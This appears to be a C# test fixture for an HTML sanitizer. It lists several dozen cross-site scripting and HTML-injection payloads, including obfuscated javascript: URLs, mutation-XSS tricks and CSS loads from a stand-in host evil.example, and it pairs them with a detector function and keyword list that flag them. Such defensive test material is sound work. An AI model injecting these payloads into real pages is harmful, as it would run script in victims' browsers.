namespace Sluice.SampleData;

/// <summary>HTML that must not act or load anything, whoever shows it; shared by the tests of mails and of pages.</summary>
static class HtmlAttacks
{
    public static TheoryData<string> All =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img src=x\nonerror\n=\nalert(1)>",
        "<img src='x' \"onerror=alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
        "<a href=\"\u2028javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"blob:https://x\"><img srcset=\"https://evil.example/x 2x\">",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,x\"></object><embed src=\"https://evil.example\">",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example\"><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<!--><script>alert(1)</script>--><!-- x --!><img src=x onerror=alert(1)>",
        "<table background=\"https://evil.example\"><td background=\"javascript:x\">x</td></table>",
        "<p title=\"a&quot; onmouseover=&quot;alert(1)\">x</p>",
        "<p title='a\" onmouseover=\"alert(1)'>x</p>",
        "<p title=`a onmouseover=alert(1)`>x</p>",
        "<div style=\"background:url(https://evil.example)\">x</div>",
        "<div style=\"background:URL ('https://evil.example')\">x</div>",
        "<div style=\"background:\\75rl(https://evil.example)\">x</div>",
        "<div style=\"background:u\\rl(https://evil.example)\">x</div>",
        "<div style=\"background:image-set('https://evil.example' 1x)\">x</div>",
        "<div style=\"background:-webkit-image-set('https://evil.example' 1x)\">x</div>",
        "<div style=\"background:src('https://evil.example')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"width:exp/* */ression(alert(1))\">x</div>",
        "<div style=\"behavior:url(#default#time2)\">x</div>",
        "<div style=\"-moz-binding:url(//evil.example)\">x</div>",
        "<style>@import 'https://evil.example';</style>",
        "<style>@IMPORT url(https://evil.example);</style>",
        "<style>@\\69mport 'https://evil.example';</style>",
        "<style>@font-face{font-family:x;src:local('x')}</style>",
        "<style>p{background:url(https://evil.example)}</style>",
        "<style></style ><img src=x onerror=alert(1)>",
        "<style>p{content:'</style><script>alert(1)</script>'}</style>",
    ];

    // As a browser reads it: what it holds that acts or loads, or nothing.
    public static string? Danger(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + html);
        foreach (var element in document.All)
        {
            if (element.LocalName is "script" or "iframe" or "object" or "embed" or "svg" or "math" or "form" or "button" or "base" or "link" or "template" or "noscript" or "textarea" or "xmp") return element.LocalName;
            if (element.LocalName == "meta" && element.HasAttribute("http-equiv")) return "meta";
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "srcset" or "srcdoc" or "background" or "formaction" or "xlink:href") return attribute.Name;
                // A browser takes these signs out before it reads an address.
                var address = string.Concat(attribute.Value.Where(c => c > ' ' && c is not '\u2028'));
                if (attribute.Name is "href" or "src" && address.Contains(':', StringComparison.Ordinal) && address.Split(':')[0].ToLowerInvariant() is not ("http" or "https" or "mailto" or "tel")) return attribute.Value;
                if (attribute.Name == "style" && Loads(attribute.Value)) return attribute.Value;
            }
            if (element.LocalName == "style" && Loads(element.TextContent)) return element.TextContent;
        }
        return null;
    }

    static bool Loads(string css) => new[] { "evil", "\\", "@import", "expression", "ression(", "behavior", "font-face" }.Any(word => css.Contains(word, StringComparison.OrdinalIgnoreCase));
}
